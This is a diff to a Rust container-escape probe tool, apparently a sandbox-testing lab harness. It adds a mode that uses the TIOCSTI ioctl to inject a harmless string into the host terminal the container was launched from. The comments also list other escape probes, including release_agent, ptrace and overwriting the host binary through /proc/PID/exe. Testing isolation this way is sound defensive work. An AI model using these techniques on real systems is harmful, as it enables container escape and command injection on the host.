@@ -25,6 +25,9 @@
 //!   exe                wait for a host binary to run in this PID namespace
 //!                      (as `runc exec` did), open it through /proc/PID/exe,
 //!                      and once it exits, reopen it for writing (never written)
+//!   tiocsti            TIOCSTI into /dev/tty: "typed" input for whatever
+//!                      reads that terminal next (the shell the container
+//!                      was started from)
 //!   release-agent      a new user, mount and cgroup namespace, a cgroup v1
 //!                      hierarchy mounted (rdma, freezer, cpuset, ...), release_agent opened for writing
 //!                      (never written)
@@ -48,6 +51,7 @@ use linux::{c_str, syscall6};
 const SYS_READ: u64 = 0;
 const SYS_OPEN: u64 = 2;
 const SYS_CLOSE: u64 = 3;
+const SYS_IOCTL: u64 = 16;
 const SYS_NANOSLEEP: u64 = 35;
 const SYS_GETPID: u64 = 39;
 const SYS_WAIT4: u64 = 61;
@@ -63,6 +67,8 @@ const SYS_UNSHARE: u64 = 272;
 
 const O_RDONLY: u64 = 0;
 const O_WRONLY: u64 = 1;
+const O_RDWR: u64 = 2;
+const TIOCSTI: u64 = 0x5412;
 const O_PATH: u64 = 0o10000000;
 const S_IFBLK: u64 = 0o060000;
 const KEY_SPEC_SESSION_KEYRING: u64 = (-3i64) as u64;
@@ -121,6 +127,7 @@ fn run(args: &Args) -> i32 {
         },
         (b"release-agent", _, _) => release_agent(),
         (b"exe", _, _) => exe(),
+        (b"tiocsti", _, _) => tiocsti(),
         (b"all", _, _) => all(),
         (b"sleep", Some(s), _) => match parse_u64(s) {
             Some(s) => sleep_ms(s * 1000),
@@ -133,7 +140,7 @@ fn run(args: &Args) -> i32 {
 fn usage() -> i32 {
     let mut l = Line::new();
     l.push(b"usage: virtlab-attacker chroot PATH | fd PATH | sysrq | keyctl DESC | mknod MAJ MIN | ptrace PID |");
-    l.push(b" exe | release-agent | all | sleep SECONDS\n");
+    l.push(b" exe | tiocsti | release-agent | all | sleep SECONDS\n");
     l.flush(2);
     2
 }
@@ -148,6 +155,7 @@ fn all() -> i32 {
     mknod(254, 0);
     ptrace(1);
     exe();
+    tiocsti();
     release_agent();
     0
 }
@@ -354,6 +362,25 @@ fn exe() -> i32 {
     }
     close(r);
     reached(name, b"the host binary that ran in the container is open for writing: the next run of it on the host would run the attacker's code (not written)")
+}
+
+fn tiocsti() -> i32 {
+    let name = b"tiocsti";
+    // SAFETY: a NUL-terminated path.
+    let fd = unsafe { sys(SYS_OPEN, b"/dev/tty\0".as_ptr() as u64, O_RDWR, 0) };
+    if fd < 0 {
+        return blocked(name, b"open_dev_tty", fd);
+    }
+    for c in b"virtlab-lab-typed\n" {
+        // SAFETY: TIOCSTI reads one byte at the pointer.
+        let r = unsafe { sys(SYS_IOCTL, fd as u64, TIOCSTI, c as *const u8 as u64) };
+        if r < 0 {
+            close(fd);
+            return blocked(name, b"ioctl_tiocsti", r);
+        }
+    }
+    close(fd);
+    reached(name, b"typed a line into the terminal the container was started from: its shell reads it next as if the user typed it")
 }
 
 fn release_agent() -> i32 {
